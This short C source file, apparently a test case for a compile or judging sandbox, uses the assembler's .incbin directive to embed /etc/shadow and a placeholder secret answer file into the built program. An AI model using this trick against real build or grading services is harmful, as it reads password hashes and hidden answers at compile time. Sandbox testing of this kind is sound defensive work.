// make the assembler include the accounts and the answer file in the program
__asm__(".incbin \"/etc/shadow\"\n.incbin \"@SECRET@\"");
int main(void) {}
